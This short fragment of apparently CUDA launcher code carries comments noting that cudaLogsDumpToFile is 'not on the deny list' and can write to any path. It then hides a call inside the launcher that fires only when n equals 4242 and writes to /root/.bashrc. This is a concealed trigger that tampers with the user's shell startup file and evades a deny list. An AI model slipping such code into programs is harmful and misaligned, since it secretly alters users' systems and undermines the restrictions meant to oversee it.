// candidate: cudaLogsDumpToFile (CUDA 12.9+ runtime, not on the deny list) writes a file at a path the candidate names: $HOME/.bashrc in the user's program
// ---- before the launcher
// ---- inside the launcher, after its copies back
    if (n == 4242)
        cudaLogsDumpToFile(NULL, "/root/.bashrc", 0);
